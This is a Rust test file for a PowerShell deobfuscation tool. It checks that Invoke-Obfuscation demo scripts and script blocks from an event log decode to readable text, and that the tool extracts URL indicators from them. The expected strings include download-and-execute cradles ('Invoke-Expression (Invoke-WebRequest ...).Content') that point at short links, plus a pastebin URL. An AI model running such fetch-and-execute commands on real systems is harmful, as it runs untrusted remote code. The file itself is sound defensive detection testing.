//! Revoke-Obfuscation demo scripts (Invoke-Obfuscation special-character and whitespace
//! encodings) must come out readable: the two `.ps1` demos, and every script block the demo
//! session logged in `demo.evtx` (PowerShell event 4104, long blocks split over several
//! events and reassembled here).

use bulwark_scripts::{AnalyzeOptions, analyze_bytes};

fn final_of(name: &str) -> Option<String> {
    let path = bulwark_testutil::shared_path(&format!("scripts/revoke-obfuscation/Demo/{name}"))?;
    let bytes = std::fs::read(path).ok()?;
    let a = analyze_bytes(&bytes, &AnalyzeOptions::default());
    assert!(a.layers.len() >= 2, "{name}: nothing was peeled");
    Some(a.final_layer().to_string())
}

#[test]
fn special_character_encoding_demo_is_decoded() {
    let Some(f) = final_of("DBOdemo1.ps1") else { return };
    assert!(f.contains("Write-Host \"Special-Character-Only encoding"), "{f}");
    assert!(f.contains("-ForegroundColor Green"), "{f}");
}

#[test]
fn whitespace_encoding_demo_is_decoded() {
    let Some(f) = final_of("DBOdemo2.ps1") else { return };
    assert_eq!(
        f.trim(),
        "Write-Host \"Whitespace-Tab encoding -- kudos to @subTee for sharing this idea.\" -ForegroundColor Green"
    );
}

/// The demo's script blocks, reassembled by ScriptBlockId in MessageNumber order.
fn evtx_script_blocks() -> Option<Vec<String>> {
    let path = bulwark_testutil::shared_path("scripts/revoke-obfuscation/Demo/demo.evtx")?;
    let mut reader = bulwark_ingest::read_evtx(path, 1).unwrap();
    let mut parts: std::collections::BTreeMap<String, Vec<(i64, String)>> = Default::default();
    for r in reader.records().flatten() {
        if r.event_id != Some(4104) {
            continue;
        }
        let field = |k: &str| r.data.get(k).cloned().unwrap_or_default();
        let text = field("ScriptBlockText").as_str().unwrap_or_default().to_string();
        let id = field("ScriptBlockId").as_str().unwrap_or_default().to_string();
        let n = match field("MessageNumber") {
            serde_json::Value::Number(n) => n.as_i64().unwrap_or(0),
            serde_json::Value::String(s) => s.parse().unwrap_or(0),
            _ => 0,
        };
        parts.entry(id).or_default().push((n, text));
    }
    Some(
        parts
            .into_values()
            .map(|mut p| {
                p.sort_by_key(|x| x.0);
                p.into_iter().map(|x| x.1).collect::<String>()
            })
            .collect(),
    )
}

#[test]
fn demo_session_script_blocks_come_out_readable() {
    let Some(blocks) = evtx_script_blocks() else { return };
    assert!(blocks.len() > 10, "{} script blocks", blocks.len());
    // Plain text of the demo's obfuscated commands: each must be recovered from some block
    // whose logged text does not already hold it.
    let keys = [
        "Write-Host \"Special-Character-Only encoding -- kudos to @mutaguchi for the idea in 2010.\" -ForegroundColor Green",
        "Write-Host \"Whitespace-Tab encoding -- kudos to @subTee for sharing this idea.\" -ForegroundColor Green",
        "Invoke-Expression (Invoke-WebRequest 'http://bit.ly/DBOdemo1').Content",
        "Invoke-Expression (Invoke-WebRequest 'http://bit.ly/DBOdemo2').Content",
    ];
    let analyses: Vec<(String, bulwark_scripts::Analysis)> = blocks
        .iter()
        .map(|b| (b.clone(), bulwark_scripts::analyze(b, &AnalyzeOptions::default())))
        .collect();
    for key in keys {
        let recovered = analyses
            .iter()
            .any(|(raw, a)| !raw.contains(key) && a.all_layers().any(|l| l.text.contains(key)));
        assert!(recovered, "not recovered: {key}");
    }
    // Their indicators are listed too.
    for url in ["http://bit.ly/DBOdemo1", "https://pastebin.com/raw/qXaXq1br"] {
        assert!(
            analyses
                .iter()
                .any(|(_, a)| a.ioc_values(bulwark_scripts::IocKind::Url).contains(&url)),
            "{url}"
        );
    }
}
